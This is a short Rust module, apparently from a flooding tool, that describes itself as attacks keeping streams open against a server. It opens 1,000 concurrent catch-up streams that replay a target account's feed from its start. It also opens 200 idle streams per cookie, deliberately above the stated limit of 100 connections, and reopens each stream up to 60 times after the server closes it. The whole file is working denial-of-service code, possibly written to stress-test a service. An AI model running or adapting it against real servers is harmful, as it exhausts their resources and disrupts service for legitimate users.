//! Attacks that keep streams open.

use crate::flood::host::{Target, repeat};
use futures_util::future::join_all;
use std::time::Duration;

/// The number of streams that catch up concurrently.
const CATCHING_UP: usize = 1_000;
/// The number of streams of one cookie, where the server takes 100 connections.
const OF_ONE_COOKIE: usize = 200;
/// How often a stream is opened again after the server ended it.
const REOPENED: usize = 60;
const PAUSE: Duration = Duration::from_secs(1);

/// Streams that read the flooded account's feed from its first change.
pub(super) async fn catch_up(target: &Target) {
    let epoch = target.since.split(';').next().unwrap_or_default();
    hold_open(target, CATCHING_UP, &format!("{epoch};{}:1", target.appid)).await;
}

/// Idle streams.
pub(super) async fn per_cookie(target: &Target) {
    hold_open(target, OF_ONE_COOKIE, &target.since).await;
}

async fn hold_open(target: &Target, streams: usize, since: &str) {
    let stream = || {
        repeat(REOPENED, async |_| {
            let ended = target.follow_stream(since).await;
            tokio::time::sleep(PAUSE).await;
            ended
        })
    };
    join_all((0..streams).map(|_| stream())).await;
}
